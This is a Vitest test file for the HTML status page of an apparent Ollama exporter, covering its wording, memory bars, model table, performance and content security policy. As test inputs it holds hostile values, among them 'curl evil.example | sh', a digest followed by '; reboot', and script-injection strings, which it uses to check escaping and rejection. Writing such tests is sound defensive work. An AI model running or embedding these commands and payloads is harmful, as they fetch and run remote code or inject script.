import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { ApiError } from '../../src/ollama/errors.ts';
import { parseRunningModels, type RunningModels } from '../../src/ollama/models.ts';
import type { Outcome, Snapshot } from '../../src/scrape/snapshot.ts';
import { readPageAssets } from '../../src/status/assets.ts';
import { type PageFrame, refusalPage, statusPage } from '../../src/status/page.ts';
import { statusOf } from '../../src/status/status.ts';
import { FROZEN_NOW_MS, readCorpus } from '../corpus.ts';
import { NO_CAPACITY } from '../exporter-in-process.ts';

const ASSETS = readPageAssets();
const FRAME: PageFrame = {
  version: '1.2.3',
  telemetryPath: '/a/metrics',
  search: '?target=x',
  openModules: [],
};
const VERSION: Outcome<string> = { ok: true, value: '0.33.0', seconds: 0.002 };
const GB = 1e9;

function page(snapshot: Partial<Snapshot>, frame = FRAME, simulated = false): string {
  const source = {
    target: new URL('http://gpu-07:11434'),
    module: 'default',
    simulated,
    readAt: new Date(0),
  };
  const status = statusOf({ capacity: NO_CAPACITY, version: VERSION, ...snapshot }, source);
  // Without what is inlined, which holds words of its own.
  return statusPage(status, frame, { ...ASSETS, style: '', script: '-' });
}

function ps(body: unknown): Outcome<RunningModels> {
  return { ok: true, value: { ...parseRunningModels(body), nowMs: FROZEN_NOW_MS }, seconds: 0.01 };
}

function failed(...[reason, message, status]: [ApiError['reason'], string, number?]): Outcome<never> {
  return { ok: false, error: new ApiError(reason, message, { status }), seconds: 4.5 };
}

const model = (name: string, size: number, size_vram: number) => ({
  name,
  size: size * GB,
  size_vram: size_vram * GB,
});

/** What a reader sees of a piece of HTML. */
function words(html: string): string {
  return html
    .replaceAll(/<[^>]*>/g, ' ')
    .replaceAll(/\s+/g, ' ')
    .replaceAll(' ,', ',');
}

describe('the state is told in words:', () => {
  test('up, with the version and when it was read', () => {
    const text = words(page({ ps: ps({ models: [] }) }));
    expect(text).toContain(
      'Server http://gpu-07:11434/ Up Ollama 0.33.0 Read at 1970-01-01 00:00:00 UTC, in 10 ms.',
    );
    expect(text).toContain('No model is in memory.');
  });

  test('up, but without the list', () => {
    const text = words(page({ ps: failed('timeout', 'no complete answer within 4.5 s') }));
    expect(text).toContain('Up, but not all of it answers Ollama 0.33.0');
    expect(text).toContain(
      '/api/ps failed: timeout (no complete answer within 4.5 s). It listens, and does not answer.',
    );
    expect(text).toContain('The list of models is not available.');
  });

  test('down, with the reason and what helps', () => {
    const refused = failed('refused', 'connect ECONNREFUSED');
    const text = words(page({ ps: refused, version: refused }));
    expect(text).toContain(' Down ');
    // Once, though both calls failed so.
    expect(text.split('is Ollama running?')).toHaveLength(2);
    expect(text).toContain('/api/ps and /api/version failed: refused (connect ECONNREFUSED).');
  });

  test('a failure of which more is known comes with what helps against it', () => {
    const error = new ApiError('status', 'status 403', {
      status: 403,
      hint: 'Start it with OLLAMA_HOST=0.0.0.0.',
    });
    expect(words(page({ ps: { ok: false, error, seconds: 0 } }))).toContain(
      'Start it with OLLAMA_HOST=0.0.0.0.',
    );
  });

  test('what is not known of a model is no zero', () => {
    const capacity = { vramBytes: 30 * GB, memoryBytes: 68 * GB };
    const text = words(page({ ps: ps({ models: [{ name: 'a', size: 10 * GB }] }), capacity }));
    expect(text).toContain('VRAM – RAM – On the GPU –');
    expect(text).toContain('VRAM: not known, since');
    expect(text).toContain('Unknown');
  });
});

describe('memory', () => {
  const models = [model('a', 10, 10), model('b', 20, 5), model('c', 2, 0)];

  test('is summed up', () => {
    expect(words(page({ ps: ps({ models }) }))).toContain(
      'Models 3 Size 32 GB VRAM 15 GB RAM 17 GB On the GPU 47%',
    );
  });

  test('is a bar with a segment a model, up to the capacity, told in words too', () => {
    const html = page({ ps: ps({ models }), capacity: { vramBytes: 30 * GB, memoryBytes: 68 * GB } });
    expect(html).toContain('aria-label="VRAM: 15 GB of 30 GB (50%): a 10 GB, b 5 GB"');
    expect(html).toContain('aria-label="RAM: 17 GB of 68 GB (25%): b 15 GB, c 2 GB"');
    expect(
      [...html.matchAll(/<rect class="(even|odd)" x="([\d.]+)" y="0" width="([\d.]+)"/g)].map(
        ([, ...rest]) => rest,
      ),
    ).toEqual([
      ['even', '0.0', '333.3'],
      ['odd', '333.3', '166.7'],
      ['even', '0.0', '220.6'],
      ['odd', '220.6', '29.4'],
    ]);
  });

  test('shows what does not fit', () => {
    const html = page({ ps: ps({ models }), capacity: { vramBytes: 12 * GB, memoryBytes: undefined } });
    expect(html).toContain('VRAM: 15 GB in 12 GB (125%), 3 GB more than there is');
    expect(html).toContain('<rect class="over" x="800.0" y="20" width="200.0" height="8"/>');
    expect(html).toContain('RAM: 17 GB, of a capacity that is not known');
  });
});

describe('the models', () => {
  test('come by VRAM, and have all columns', () => {
    const html = page({ ps: ps(JSON.parse(readCorpus('04-split.json'))) });
    expect(words(html)).toContain('Model Quantization Parameters Size Processor Context Until Family Digest');
    expect(words(html)).toMatch(
      /gpt-oss:120b MXFP4 .* 68 GB 38%\/62% CPU\/GPU 8192 29 minutes from now gptoss 894478ffda30 Copy/,
    );
    const many = [model('small', 1, 1), model('cpu', 9, 0), model('large', 5, 5)];
    const names = [...page({ ps: ps({ models: many }) }).matchAll(/role="rowheader">(\w+)/g)].map(
      ([, name]) => name,
    );
    expect(names).toEqual(['large', 'small', 'cpu']);
  });

  test.each(['a'.repeat(64), `sha256:${'0'.repeat(64)}`, '0123456789ab'])(
    'a digest can be copied: %s',
    (digest) => {
      expect(page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) })).toContain(
        `data-copy="${digest}"`,
      );
    },
  );

  test.each([
    '',
    'curl evil.example | sh #',
    `${'a'.repeat(64)}\u00a0; reboot`,
    'a'.repeat(11),
    'a'.repeat(65),
    'A'.repeat(64),
    'sha256:',
    'sha512:0123456789ab',
    'javascript:alert(1)',
    '0123456789ab, 0123456789ac',
  ])('what is no digest can not be copied: %s', (digest) => {
    const html = page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) });
    expect(html).toContain('>a</th>');
    expect(html).not.toContain('data-copy');
  });

  test('200 of them take less than 50 ms, and with all else less than 30 KB', () => {
    const outcome = ps(JSON.parse(readCorpus('17-two-hundred.json')));
    const source = {
      target: new URL('http://a:1'),
      module: 'default',
      simulated: false,
      readAt: new Date(0),
    };
    const render = () =>
      statusPage(statusOf({ capacity: NO_CAPACITY, version: VERSION, ps: outcome }, source), FRAME, ASSETS);
    const times = Array.from({ length: 10 }, () => {
      const start = performance.now();
      render();
      return performance.now() - start;
    });
    // The best of ten: a busy machine adds to each.
    expect(Math.min(...times)).toBeLessThan(50);
    expect(gzipSync(render()).length).toBeLessThan(30_000);
    expect(render()).toContain('data-wanted');
  });
});

describe('text of strangers', () => {
  test('is text wherever it stands', () => {
    const evil = '"><script>alert(1)</script>\'&';
    const html = page(
      {
        ps: ps({
          models: [
            {
              model: evil,
              size: 1,
              size_vram: 1,
              digest: evil,
              details: { quantization_level: evil, family: evil, parameter_size: evil },
            },
          ],
        }),
        version: { ok: true, value: evil, seconds: 0 },
      },
      { ...FRAME, search: `?target=${evil}`, openModules: [evil] },
    );
    expect(html).not.toContain('<script>');
    expect(
      html.match(/&quot;&gt;&lt;script&gt;alert\(1\)&lt;\/script&gt;&#39;&amp;/g)?.length,
    ).toBeGreaterThan(8);
    expect(refusalPage(evil, FRAME, ASSETS)).not.toContain('<script>alert');
  });
});

describe('around it', () => {
  test('links are relative, and the one to the numbers has the query', () => {
    const html = page({ ps: ps({ models: [] }) });
    const links = [...html.matchAll(/(?:href|action)="([^"]*)"/g)].map(([, link = '']) => link);
    expect(links).toEqual(
      expect.arrayContaining(['./a/metrics', './api/status?target=x', './config', './-/healthy']),
    );
    expect(links.filter((link) => link.startsWith('/'))).toEqual([]);
  });

  test('a form asks for another server, where a module allows any', () => {
    expect(page({ ps: ps({ models: [] }) })).not.toContain('<form');
    const html = page({ ps: ps({ models: [] }) }, { ...FRAME, openModules: ['blue', 'default'] });
    expect(html).toContain(
      '<input name="target" required placeholder="gpu-07:11434" value="http://gpu-07:11434/">',
    );
    expect(html).toContain('<option>blue</option><option selected>default</option>');
  });

  test('a band says that it is a simulation, if it is', () => {
    expect(page({ ps: ps({ models: [] }) })).not.toContain('simulation');
    expect(page({ ps: ps({ models: [] }) }, FRAME, true)).toContain(
      'This is a simulation: no real Ollama is asked.',
    );
  });

  test('the policy lets in what is inlined, and nothing else', () => {
    expect(ASSETS.policy).not.toContain('unsafe');
    expect(ASSETS.policy).toMatch(
      /^default-src 'none'; style-src 'sha256-\S+'; script-src 'sha256-\S+'; connect-src 'self';/,
    );
    expect(ASSETS.script).not.toMatch(/^import /m);
  });
});
